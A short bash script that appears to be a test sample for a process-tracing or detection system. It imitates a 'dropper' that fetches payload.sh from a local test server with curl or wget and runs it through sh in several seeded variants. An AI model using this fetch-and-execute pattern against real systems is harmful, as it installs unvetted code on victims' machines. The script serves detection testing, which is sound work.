#!/bin/bash
# family: dropper
# needs: http
# actors: sh
# (the orchestrating bash, curl, wget, cat and what the script runs are bystanders: they only fetch, pass it on or are run)
# Dropper that saves the script and hands it to a shell without making it executable: sh x.sh, cat x.sh | sh,
# sh < x.sh; wget -O creates the file before it connects (schema 21). Every variant shows in lean traces too.
RANDOM=$PG_SEED
u="http://127.0.0.1:$PG_HTTP_PORT/payload.sh"
f="$TMPDIR/$(printf 'inst%04d' $((RANDOM % 10000))).sh"
if [ $((RANDOM % 2)) -eq 0 ]; then curl -fsSL -o "$f" "$u"; else wget -q -O "$f" "$u"; fi
case $((RANDOM % 3)) in
  0) sh "$f" ;;
  1) cat "$f" | sh ;;
  *) sh < "$f" ;;
esac
exit 0
